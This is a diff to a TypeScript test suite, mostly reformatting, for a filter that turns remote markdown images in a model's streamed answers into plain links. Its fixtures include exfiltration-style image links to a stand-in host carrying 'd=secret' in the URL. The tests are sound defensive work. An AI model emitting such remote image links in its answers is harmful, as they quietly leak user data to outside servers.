@@ -1,4 +1,5 @@
-// Images in what a model says, as editors get it: none that is loaded from elsewhere, however the text is cut into pieces.
+// Images in what a model says, as editors get it: none that is loaded from elsewhere, however the text is cut into
+// pieces.
 import { assert, describe, it } from "@effect/vitest"
 import * as Effect from "effect/Effect"
 import type { RunEvent } from "../../src/domain/RunEvent.ts"
@@ -9,7 +10,7 @@ import { world } from "../support/servedEditor.ts"
 const changed: ReadonlyArray<readonly [given: string, shown: string]> = [
   ["![plan](https://e.example/a.png?d=secret)", "[plan](https://e.example/a.png?d=secret)"],
   ["see ![](http://e.example/x) and ![b](//e.example/y)", "see [](http://e.example/x) and [b](//e.example/y)"],
-  ["![a]( <https://e.example/x> \"t\")", "[a]( <https://e.example/x> \"t\")"],
+  ['![a]( <https://e.example/x> "t")', '[a]( <https://e.example/x> "t")'],
   ["![a](< //e.example/x>)", "[a](< //e.example/x>)"],
   ["![a](\nhttps://e.example/x)", "[a](\nhttps://e.example/x)"],
   ["![a](HTTPS://e.example/x)", "[a](HTTPS://e.example/x)"],
@@ -28,7 +29,7 @@ const changed: ReadonlyArray<readonly [given: string, shown: string]> = [
 const kept: ReadonlyArray<string> = [
   "[a link](https://e.example/x)",
   "![local](docs/a.png) ![here](/tmp/a.png) ![data](data:image/png;base64,AAAA)",
-  "#![feature(test)]\nlet v = vec![1, 2][0]; println![\"x\"]",
+  '#![feature(test)]\nlet v = vec![1, 2][0]; println!["x"]',
   "[1]: https://e.example/x\n\n[a][1]",
   "Done! [x] is next!",
   "not over ![",
@@ -54,7 +55,8 @@ describe("images of an answer", () => {
   })
 
   it("of this machine stay, and so does everything that is no image", () => {
-    for (const text of kept.filter((text) => text !== "not over ![")) assert.strictEqual(RemoteImages.replaceRemoteImages(text), text)
+    for (const text of kept.filter((text) => text !== "not over !["))
+      assert.strictEqual(RemoteImages.replaceRemoteImages(text), text)
   })
 
   it("are found however the text is cut", () => {
@@ -62,15 +64,18 @@ describe("images of an answer", () => {
     for (const [index, text] of texts.entries()) {
       // With another text behind it, so that what is held meets what comes.
       const whole = `${text}\n\n${texts[(index * 7 + 3) % texts.length] ?? ""}`
-      for (const sizes of [[1], [2], [3], [5], [1, 4, 2], [7, 1]]) assert.strictEqual(inPieces(whole, sizes), inPieces(whole, [whole.length + 1]))
+      for (const sizes of [[1], [2], [3], [5], [1, 4, 2], [7, 1]])
+        assert.strictEqual(inPieces(whole, sizes), inPieces(whole, [whole.length + 1]))
     }
   })
 
   it("are held over events that are no text", () => {
     const filter = RemoteImages.makeEventFilter()
     const delta = (text: string): RunEvent => ({ _tag: "TextDelta", text })
-    const events = [delta("look: ![a](htt"), delta("ps://e.example/x) "), delta("![b](ht")].flatMap((event) => filter.of([event]))
-    const text = [...events, ...filter.end()].map((event) => event._tag === "TextDelta" ? event.text : "").join("")
+    const events = [delta("look: ![a](htt"), delta("ps://e.example/x) "), delta("![b](ht")].flatMap((event) =>
+      filter.of([event])
+    )
+    const text = [...events, ...filter.end()].map((event) => (event._tag === "TextDelta" ? event.text : "")).join("")
     assert.strictEqual(text, "look: [a](https://e.example/x) [b](ht")
   })
 
@@ -81,17 +86,21 @@ describe("images of an answer", () => {
 })
 
 describe("an editor", () => {
-  it.live("gets an answer without images of other hosts, live and when its session is loaded", () =>
-    Effect.gen(function*() {
-      const text = ["see ![the pl", "an](htt", "ps://e.example/?d=secret) and ![here](a.png)", "!"]
-      const { ask, cwd, sessionId, textOf, updates } = yield* world({ work: [{ text }] }, {})
-      yield* Effect.promise(async () => {
-        const shown = "see [the plan](https://e.example/?d=secret) and ![here](a.png)!"
-        await ask("session/prompt", { sessionId, prompt: acpEditor.say("work") })
-        assert.strictEqual(textOf(sessionId), shown)
-        updates.length = 0
-        await ask("session/load", { sessionId, cwd, mcpServers: [] })
-        assert.strictEqual(textOf(sessionId), shown)
-      })
-    }), { timeout: 60_000 })
+  it.live(
+    "gets an answer without images of other hosts, live and when its session is loaded",
+    () =>
+      Effect.gen(function* () {
+        const text = ["see ![the pl", "an](htt", "ps://e.example/?d=secret) and ![here](a.png)", "!"]
+        const { ask, cwd, sessionId, textOf, updates } = yield* world({ work: [{ text }] }, {})
+        yield* Effect.promise(async () => {
+          const shown = "see [the plan](https://e.example/?d=secret) and ![here](a.png)!"
+          await ask("session/prompt", { sessionId, prompt: acpEditor.say("work") })
+          assert.strictEqual(textOf(sessionId), shown)
+          updates.length = 0
+          await ask("session/load", { sessionId, cwd, mcpServers: [] })
+          assert.strictEqual(textOf(sessionId), shown)
+        })
+      }),
+    { timeout: 60_000 }
+  )
 })
